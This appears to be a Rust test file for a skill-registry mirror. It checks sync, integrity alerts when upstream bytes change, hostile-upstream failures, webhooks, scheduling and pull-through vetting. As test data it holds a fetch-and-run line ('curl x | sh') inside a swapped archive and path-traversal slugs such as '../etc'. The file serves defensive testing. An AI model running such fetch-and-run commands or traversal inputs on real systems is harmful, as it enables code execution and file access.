//! Sync against a scripted fake upstream that speaks raw HTTP, so it can misbehave in
//! ways a well-behaved server library would not allow (lying Content-Length, truncated
//! bodies, stalls).

use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::json;
use skillscan_mirror::model::State;
use skillscan_mirror::service::IngestOutcome;
use skillscan_mirror::sync::{SyncError, SyncOptions, Upstream, run_with};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::*;
use crate::fake_upstream::{Reply, Routes, fake_upstream, http, ok_json, ok_zip};

fn detail(slug: &str, owner: &str, latest: &str) -> Reply {
    ok_json(json!({
        "skill": {"slug": slug, "displayName": slug, "summary": "s", "tags": {"latest": latest}, "stats": {}, "createdAt": 1, "updatedAt": 1},
        "latestVersion": {"version": latest, "createdAt": 1, "changelog": "c"},
        "metadata": null, "owner": {"handle": owner}, "moderation": null,
    }))
}

fn versions(vs: &[&str]) -> Reply {
    ok_json(
        json!({"items": vs.iter().map(|v| json!({"version": v, "createdAt": 1, "changelog": format!("v{v}")})).collect::<Vec<_>>(), "nextCursor": null}),
    )
}

fn upstream(base: &str) -> Upstream {
    let mut u = Upstream::new(base, Duration::from_millis(800), 2, Duration::from_secs(2)).unwrap();
    u.retry.backoff = Duration::from_millis(20);
    u
}

fn routes(entries: Vec<(String, Reply)>) -> Routes {
    Arc::new(Mutex::new(entries.into_iter().collect()))
}

fn skill_routes(slug: &str, owner: &str, vers: &[(&str, Vec<u8>)]) -> Vec<(String, Reply)> {
    let latest = vers.last().unwrap().0;
    let mut r = vec![
        (format!("/api/v1/skills/{slug}"), detail(slug, owner, latest)),
        (format!("/api/v1/skills/{slug}/versions?limit=5"), versions(&vers.iter().map(|v| v.0).collect::<Vec<_>>())),
    ];
    for (v, z) in vers {
        r.push((format!("/api/v1/download?slug={slug}&version={v}&ownerHandle={owner}"), ok_zip(z)));
    }
    r
}

fn opts(base: &str, slugs: &[&str]) -> SyncOptions {
    SyncOptions { upstream: base.into(), slugs: slugs.iter().map(|s| s.to_string()).collect(), all: false }
}

#[tokio::test]
async fn sync_ingests_scans_and_decides() {
    let e = env();
    let good = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let bad = zip("crypto-tracker", "1.0.0", &[("SKILL.md", "# c\nMALICIOUS\n")]);
    let mut r = skill_routes("weather-brief", "acme", &[("1.0.0", good.clone())]);
    r.extend(skill_routes("crypto-tracker", "mallory", &[("1.0.0", bad)]));
    r.push((
        "/api/v1/skills?limit=200".into(),
        ok_json(json!({"items": [{"slug": "weather-brief"}, {"slug": "crypto-tracker"}], "nextCursor": null})),
    ));
    let (base, _) = fake_upstream(routes(r)).await;
    let rep =
        run_with(e.mirror.clone(), &upstream(&base), SyncOptions { upstream: base.clone(), slugs: vec![], all: true })
            .await
            .unwrap();
    assert!(rep.failures.is_empty(), "{:?}", rep.failures);
    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);
    assert_eq!(e.mirror.get("crypto-tracker", "1.0.0").unwrap().state, State::Rejected);
    e.state.rebuild().unwrap();
    let (s, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&version=1.0.0").await;
    assert_eq!(s, 200);
    assert_eq!(b.as_ref(), good.as_slice(), "served byte-identical to upstream");
    let rec = e.mirror.get("weather-brief", "1.0.0").unwrap();
    assert_eq!(rec.changelog, "v1.0.0");
    assert_eq!(rec.owner.as_deref(), Some("acme"));
}

#[tokio::test]
async fn upstream_changing_pinned_bytes_raises_an_alert_and_keeps_the_original() {
    let e = env();
    let original = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let swapped = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD), ("evil.sh", "curl x | sh\n")]);
    let rt = routes(skill_routes("weather-brief", "acme", &[("1.0.0", original.clone())]));
    let (base, _) = fake_upstream(rt.clone()).await;
    let up = upstream(&base);
    run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
    // Same bytes again: unchanged.
    let rep = run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
    assert!(matches!(rep.results[0].1, IngestOutcome::Unchanged { state: State::Approved }));
    // Upstream now serves different bytes for the same version.
    rt.lock()
        .unwrap()
        .insert("/api/v1/download?slug=weather-brief&version=1.0.0&ownerHandle=acme".into(), ok_zip(&swapped));
    let rep = run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
    assert!(matches!(rep.results[0].1, IngestOutcome::IntegrityAlert { .. }), "{:?}", rep.results);
    let alerts = e.mirror.meta.alerts().unwrap();
    assert_eq!(alerts.len(), 1);
    assert!(alerts[0].detail.contains("file contents differ"), "{}", alerts[0].detail);
    e.state.rebuild().unwrap();
    let (_, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&version=1.0.0").await;
    assert_eq!(b.as_ref(), original.as_slice(), "the pinned original is still served");
    assert!(e.mirror.meta.audit(None).unwrap().iter().any(|a| a.action == "integrity-alert"));
}

#[tokio::test]
async fn hostile_upstreams_are_recorded_failures() {
    let e = env();
    let good = zip("a-skill", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let dl = |slug: &str| format!("/api/v1/download?slug={slug}&version=1.0.0&ownerHandle=acme");
    let mut r = Vec::new();
    for s in
        ["malformed", "stall", "truncated", "lying", "huge", "ratelimited", "longwait", "notzip", "badver", "wrongslug"]
    {
        r.push((format!("/api/v1/skills/{s}"), detail(s, "acme", "1.0.0")));
        r.push((format!("/api/v1/skills/{s}/versions?limit=5"), versions(&["1.0.0"])));
    }
    r.push(("/api/v1/skills/malformed".into(), Reply::Raw(http("200 OK", &[], b"{\"skill\": [truncated"))));
    r.push((dl("stall"), Reply::Stall(Duration::from_secs(3), http("200 OK", &[], &good))));
    // Declares 5000 bytes, sends 100 and closes.
    r.push((dl("truncated"), Reply::Raw(http("200 OK", &[("content-length", "5000".into())], &good[..100]))));
    // Declares fewer bytes than the real archive: the cut-off zip is not a valid archive.
    r.push((dl("lying"), Reply::Raw(http("200 OK", &[("content-length", (good.len() - 30).to_string())], &good))));
    r.push((dl("huge"), Reply::Raw(http("200 OK", &[("content-length", (200u64 * 1024 * 1024).to_string())], b""))));
    r.push((
        dl("ratelimited"),
        Reply::Seq(vec![
            Reply::Raw(http("429 Too Many Requests", &[("retry-after", "1".into())], b"Rate limit exceeded")),
            ok_zip(&zip("ratelimited", "1.0.0", &[("SKILL.md", BENIGN_MD)])),
        ]),
    ));
    r.push((
        dl("longwait"),
        Reply::Raw(http("429 Too Many Requests", &[("retry-after", "3600".into())], b"Rate limit exceeded")),
    ));
    r.push((dl("notzip"), Reply::Raw(http("200 OK", &[], b"<html>not a zip</html>"))));
    r.push(("/api/v1/skills/badver/versions?limit=5".into(), versions(&["../../1.0.0"])));
    r.push(("/api/v1/skills/wrongslug".into(), detail("other-slug", "acme", "1.0.0")));
    let (base, _) = fake_upstream(routes(r)).await;
    let slugs = [
        "malformed",
        "stall",
        "truncated",
        "lying",
        "huge",
        "ratelimited",
        "longwait",
        "notzip",
        "badver",
        "wrongslug",
        "missing",
        "../etc",
    ];
    let rep = run_with(e.mirror.clone(), &upstream(&base), opts(&base, &slugs)).await.unwrap();
    let fail_of = |s: &str| rep.failures.iter().find(|f| f.slug == s).map(|f| f.error.clone()).unwrap_or_default();
    assert!(fail_of("malformed").contains("malformed upstream JSON"), "{}", fail_of("malformed"));
    assert!(fail_of("stall").contains("network"), "{}", fail_of("stall"));
    assert!(
        fail_of("truncated").contains("truncated") || fail_of("truncated").contains("network"),
        "{}",
        fail_of("truncated")
    );
    assert!(fail_of("lying").contains("invalid archive"), "{}", fail_of("lying"));
    assert!(fail_of("huge").contains("larger than"), "{}", fail_of("huge"));
    assert!(fail_of("longwait").contains("retry after"), "{}", fail_of("longwait"));
    assert!(fail_of("notzip").contains("invalid archive"), "{}", fail_of("notzip"));
    assert!(fail_of("badver").contains("Invalid version"), "{}", fail_of("badver"));
    assert!(fail_of("wrongslug").contains("canonical slug"), "{}", fail_of("wrongslug"));
    assert!(fail_of("missing").contains("404"), "{}", fail_of("missing"));
    assert!(fail_of("../etc").contains("Invalid slug"), "{}", fail_of("../etc"));
    assert_eq!(fail_of("ratelimited"), "", "429 + Retry-After: 1 is retried and succeeds");
    assert_eq!(e.mirror.get("ratelimited", "1.0.0").unwrap().state, State::Approved);
    // Nothing from a failed item was stored, so nothing unvetted can be served.
    let stored: Vec<String> = e.mirror.meta.versions(None).unwrap().iter().map(|v| v.slug.clone()).collect();
    assert_eq!(stored, ["ratelimited"]);
    assert_eq!(e.mirror.meta.sync_failures(100).unwrap().len(), rep.failures.len());
}

#[tokio::test]
async fn a_broken_skill_listing_is_a_recorded_failure() {
    let e = env();
    let r = routes(vec![("/api/v1/skills?limit=200".into(), Reply::Raw(http("200 OK", &[], b"{\"items\": [tru")))]);
    let (base, _) = fake_upstream(r).await;
    let all = SyncOptions { upstream: base.clone(), slugs: vec![], all: true };
    let err = run_with(e.mirror.clone(), &upstream(&base), all).await.unwrap_err();
    assert!(err.to_string().contains("malformed upstream JSON"), "{err}");
    let failures = e.mirror.meta.sync_failures(10).unwrap();
    assert_eq!(failures.len(), 1);
    assert_eq!(failures[0].slug, "*");
    assert!(failures[0].error.starts_with("listing skills: "), "{}", failures[0].error);
}

#[tokio::test]
async fn retries_then_gives_up_on_5xx() {
    let r = routes(vec![("/x".into(), Reply::Raw(http("503 Service Unavailable", &[], b"down")))]);
    let (base, _) = fake_upstream(r).await;
    let err = upstream(&base).get("/x", 1024).await.unwrap_err();
    assert_eq!(err, SyncError::Http(503, "down".into()));
}

#[test]
fn every_alerting_event_is_queued_for_the_webhooks() {
    use skillscan_mirror::config::{Config, WebhookConfig};
    use skillscan_mirror::policy::Policy;
    let hook = WebhookConfig {
        url: "http://127.0.0.1:9/hook".into(),
        events: ["quarantine", "reject", "revoke", "integrity_alert"].map(String::from).to_vec(),
        secret: None,
    };
    let e = env_with(Policy::default(), Config { webhooks: vec![hook], ..Config::default() });
    e.ingest("careful-skill", "0.1.0", "acme", &[("SKILL.md", "# c\nCAUTION\n")]);
    e.ingest("crypto-tracker", "1.0.0", "mallory", &[("SKILL.md", "# c\nMALICIOUS\n")]);
    e.ingest("weather-brief", "1.0.0", "acme", &[("SKILL.md", BENIGN_MD)]);
    e.mirror.decide("weather-brief", "1.0.0", State::Revoked, "pulled by the vendor", "alice", false).unwrap();
    // Different bytes for a pinned version.
    e.ingest("crypto-tracker", "1.0.0", "mallory", &[("SKILL.md", "# c\nMALICIOUS\nchanged\n")]);
    let queued: Vec<String> = e.mirror.meta.due_webhooks(i64::MAX, 8).unwrap().into_iter().map(|w| w.event).collect();
    for event in ["quarantine", "reject", "revoke", "integrity_alert"] {
        assert!(queued.iter().any(|q| q == event), "no {event} webhook queued: {queued:?}");
    }
}

#[tokio::test]
async fn webhooks_are_posted_and_retried() {
    use skillscan_mirror::config::{Config, WebhookConfig};
    use skillscan_mirror::policy::Policy;
    // A receiver that fails the first delivery (500) and accepts the next one.
    let received: Arc<Mutex<Vec<String>>> = Arc::default();
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", l.local_addr().unwrap());
    let rec = received.clone();
    tokio::spawn(async move {
        let mut n = 0;
        loop {
            let Ok((mut s, _)) = l.accept().await else {
                return;
            };
            n += 1;
            let mut buf = vec![0u8; 65536];
            let mut len = 0;
            // Read head + body (Content-Length bounded, small).
            loop {
                let k = s.read(&mut buf[len..]).await.unwrap_or(0);
                if k == 0 {
                    break;
                }
                len += k;
                let text = String::from_utf8_lossy(&buf[..len]).to_string();
                if let Some(i) = text.find("\r\n\r\n") {
                    let cl: usize = text
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse().unwrap_or(0))
                        })
                        .unwrap_or(0);
                    if len >= i + 4 + cl {
                        rec.lock().unwrap().push(text[i + 4..i + 4 + cl].to_string());
                        break;
                    }
                }
            }
            let status = if n == 1 { "500 Internal Server Error" } else { "204 No Content" };
            let _ = s
                .write_all(format!("HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").as_bytes())
                .await;
        }
    });
    let cfg = Config {
        webhooks: vec![WebhookConfig { url, events: vec!["reject".into()], secret: None }],
        ..Config::default()
    };
    let e = env_with(Policy::default(), cfg);
    e.ingest("crypto-tracker", "1.0.0", "mallory", &[("SKILL.md", "# c\nMALICIOUS\n")]);
    e.ingest("weather-brief", "1.0.0", "acme", &[("SKILL.md", BENIGN_MD)]);
    let client = skillscan_mirror::webhooks::client();
    let (ok, failed) = skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await;
    assert_eq!((ok, failed), (0, 1));
    // Backoff: not due yet, then due after ~1 s.
    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (0, 0));
    tokio::time::sleep(Duration::from_millis(1100)).await;
    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (1, 0));
    let got = received.lock().unwrap().clone();
    assert_eq!(got.len(), 2, "one failed attempt, one delivery, and nothing for the approval");
    let v: serde_json::Value = serde_json::from_str(&got[1]).unwrap();
    assert_eq!(v["event"], "reject");
    assert_eq!(v["slug"], "crypto-tracker");
    assert_eq!(v["state"], "rejected");
    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (0, 0));
}

/// `[schedule] sync`: `serve`'s scheduler picks up a new upstream version by itself, serves it,
/// and counts the run; no command is run.
#[tokio::test]
async fn the_scheduled_sync_picks_up_a_new_upstream_version() {
    use skillscan_mirror::schedule::{self, Plan};
    let v1 = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let v2 = zip("weather-brief", "1.0.1", &[("SKILL.md", BENIGN_MD)]);
    let rt = routes(skill_routes("weather-brief", "acme", &[("1.0.0", v1.clone())]));
    let (base, _) = fake_upstream(rt.clone()).await;
    let config: skillscan_mirror::config::Config =
        skillscan_mirror::config::Config::parse(&format!("[upstream]\nurl = \"{base}\"\n[schedule]\nsync = \"1h\"\n"))
            .unwrap();
    let e = env_with(skillscan_mirror::policy::Policy::default(), config.clone());
    run_with(e.mirror.clone(), &upstream(&base), opts(&base, &["weather-brief"])).await.unwrap();
    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);

    // Upstream publishes 1.0.1.
    for (k, v) in skill_routes("weather-brief", "acme", &[("1.0.0", v1), ("1.0.1", v2.clone())]) {
        rt.lock().unwrap().insert(k, v);
    }
    let mut plan = Plan::of(&e.mirror.config);
    assert_eq!(plan.sync_every, Some(Duration::from_secs(3600)));
    assert_eq!(plan.upstream.as_deref(), Some(base.as_str()));
    plan.sync_every = Some(Duration::from_millis(200));
    let (tx, rx) = tokio::sync::watch::channel(false);
    let jobs = tokio::spawn(schedule::run(e.state.clone(), plan, rx));
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let (s, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&version=1.0.1").await;
        if s == 200 {
            assert_eq!(b.as_ref(), v2.as_slice());
            break;
        }
        assert!(std::time::Instant::now() < deadline, "1.0.1 not served after 20 s: {s} {}", text(&b));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (_, _, m) = get(e.app(), "/metrics").await;
    let m = text(&m);
    let synced: u64 = m
        .lines()
        .find_map(|l| l.strip_prefix("skillscan_mirror_scheduled_sync_total "))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!(synced >= 1, "{m}");
    tx.send(true).unwrap();
    tokio::time::timeout(Duration::from_secs(10), jobs).await.expect("the scheduler stops on shutdown").unwrap();
}

/// `[schedule] rescan_on_rules_change`: new rules that reject an approved version revoke it
/// without a command, once, audited under the actor `schedule`.
#[tokio::test]
async fn a_rules_version_change_triggers_a_rescan_that_revokes() {
    use skillscan_mirror::schedule::{self, Plan};
    let e = env();
    e.ingest("retro-skill", "1.0.0", "acme", &[("SKILL.md", "# r\nRETRO\n")]);
    e.ingest("weather-brief", "1.0.0", "acme", &[("SKILL.md", BENIGN_MD)]);
    assert_eq!(e.mirror.get("retro-skill", "1.0.0").unwrap().state, State::Approved);
    let plan = Plan {
        sync_every: None,
        upstream: None,
        sync_all: false,
        rescan_on_rules_change: true,
        rules_check: Duration::from_millis(100),
    };
    let (tx, rx) = tokio::sync::watch::channel(false);
    let jobs = tokio::spawn(schedule::run(e.state.clone(), plan, rx));
    // Same rules: nothing happens.
    tokio::time::sleep(Duration::from_millis(400)).await;
    assert_eq!(e.mirror.get("retro-skill", "1.0.0").unwrap().state, State::Approved);
    // New rules (the marker vetter's strict rules reject RETRO).
    *e.vetter.rules_version.lock().unwrap() = "test-rules-2-strict".into();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while e.mirror.get("retro-skill", "1.0.0").unwrap().state != State::Revoked {
        assert!(std::time::Instant::now() < deadline, "not revoked after 20 s");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);
    let (s, _, _) = get(e.app(), "/api/v1/download?slug=retro-skill&version=1.0.0").await;
    assert_eq!(s, 403, "the revoked version is refused at once");
    let audit = e.mirror.meta.audit(None).unwrap();
    assert!(audit.iter().any(|a| a.version == "1.0.0" && a.actor == "schedule"), "{audit:?}");
    tx.send(true).unwrap();
    tokio::time::timeout(Duration::from_secs(10), jobs).await.expect("the scheduler stops on shutdown").unwrap();
}

#[test]
fn a_scheduled_sync_needs_an_upstream_and_a_period() {
    use skillscan_mirror::config::Config;
    let err = Config::parse("[schedule]\nsync = \"1h\"\n").unwrap_err().to_string();
    assert!(err.contains("upstream.url"), "{err}");
    let err = Config::parse("[upstream]\nurl = \"https://r.example\"\n[schedule]\nsync = \"0\"\n").unwrap_err();
    assert!(err.to_string().contains("schedule.sync"), "{err}");
    let err = Config::parse("[schedule]\nsink = \"1h\"\n").unwrap_err();
    assert!(err.to_string().contains("sink"), "{err}");
    let ok = Config::parse("[upstream]\nurl = \"https://r.example\"\n[schedule]\nsync = \"30m\"\nsync_all = true\n")
        .unwrap();
    assert!(ok.schedule.sync_all && ok.schedule.rescan_on_rules_change);
}

/// `[upstream] on_demand`: an empty mirror fetches, pins and vets a skill on its first request;
/// a clean one is served, a malicious one refused with its reason, each fetched from upstream
/// once (concurrent requests wait on one fetch; an unknown name is remembered as missing).
#[tokio::test]
async fn pull_through_fetches_vets_and_answers_on_the_first_request() {
    let good = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let bad = zip("crypto-tracker", "1.0.0", &[("SKILL.md", "# c\nMALICIOUS\n")]);
    let mut r = skill_routes("weather-brief", "acme", &[("1.0.0", good.clone())]);
    r.extend(skill_routes("crypto-tracker", "mallory", &[("1.0.0", bad)]));
    r.extend(skill_routes("notes-sync", "acme", &[("1.0.0", zip("notes-sync", "1.0.0", &[("SKILL.md", BENIGN_MD)]))]));
    let (base, seen) = fake_upstream(routes(r)).await;
    let config = skillscan_mirror::config::Config::parse(&format!(
        "[upstream]\nurl = \"{base}\"\non_demand = true\ntimeout = \"5s\"\n"
    ))
    .unwrap();
    let e = env_with(skillscan_mirror::policy::Policy::default(), config);
    let upstream_asked = |path: &str| seen.lock().unwrap().iter().filter(|t| t.as_str() == path).count();

    // A clean skill: detail, then the download the CLI sends next, served from the mirror.
    let (s, _, b) = get(e.app(), "/api/v1/skills/weather-brief").await;
    assert_eq!(s, 200, "{}", text(&b));
    assert_eq!(json(&b)["latestVersion"]["version"], "1.0.0");
    let (s, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&ownerHandle=acme&version=1.0.0").await;
    assert_eq!(s, 200, "{}", text(&b));
    assert_eq!(b.as_ref(), good.as_slice());
    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);

    // A malicious one: detail says blocked, the download is refused with the reason.
    let (s, _, b) = get(e.app(), "/api/v1/skills/crypto-tracker").await;
    assert_eq!(s, 200, "{}", text(&b));
    assert_eq!(json(&b)["moderation"]["isMalwareBlocked"], true, "{}", text(&b));
    let (s, _, b) = get(e.app(), "/api/v1/download?slug=crypto-tracker&version=1.0.0").await;
    assert_eq!(s, 403);
    assert!(text(&b).contains("malicious"), "{}", text(&b));

    // Eight requests at once for a third skill: one fetch.
    let app = e.app();
    let answers = futures_join_all((0..8).map(|_| get(app.clone(), "/api/v1/skills/notes-sync"))).await;
    assert!(answers.iter().all(|(s, _, _)| *s == 200));

    // An unknown name, asked for three times: upstream hears of it once.
    for _ in 0..3 {
        assert_eq!(get(e.app(), "/api/v1/skills/nobody-has-this").await.0, 404);
    }

    for slug in ["weather-brief", "crypto-tracker", "notes-sync"] {
        assert_eq!(upstream_asked(&format!("/api/v1/skills/{slug}")), 1, "{slug}: {:?}", seen.lock().unwrap());
    }
    assert_eq!(upstream_asked("/api/v1/download?slug=weather-brief&version=1.0.0&ownerHandle=acme"), 1);
    assert_eq!(upstream_asked("/api/v1/skills/nobody-has-this"), 1, "{:?}", seen.lock().unwrap());
    assert_eq!(e.state.pull_through.as_ref().unwrap().fetches.load(std::sync::atomic::Ordering::Relaxed), 4);
}

/// Without `on_demand` an unknown skill is a plain 404 and upstream is not asked.
#[tokio::test]
async fn without_on_demand_an_unknown_skill_is_not_fetched() {
    let (base, seen) = fake_upstream(routes(skill_routes(
        "weather-brief",
        "acme",
        &[("1.0.0", zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]))],
    )))
    .await;
    let config = skillscan_mirror::config::Config::parse(&format!("[upstream]\nurl = \"{base}\"\n")).unwrap();
    let e = env_with(skillscan_mirror::policy::Policy::default(), config);
    assert_eq!(get(e.app(), "/api/v1/skills/weather-brief").await.0, 404);
    assert!(seen.lock().unwrap().is_empty());
    let err = skillscan_mirror::config::Config::parse("[upstream]\non_demand = true\n").unwrap_err();
    assert!(err.to_string().contains("upstream.url"), "{err}");
}

async fn futures_join_all<F: std::future::Future + Send + 'static>(futures: impl Iterator<Item = F>) -> Vec<F::Output>
where
    F::Output: Send + 'static,
{
    let handles: Vec<_> = futures.map(tokio::spawn).collect();
    let mut out = Vec::new();
    for h in handles {
        out.push(h.await.unwrap());
    }
    out
}
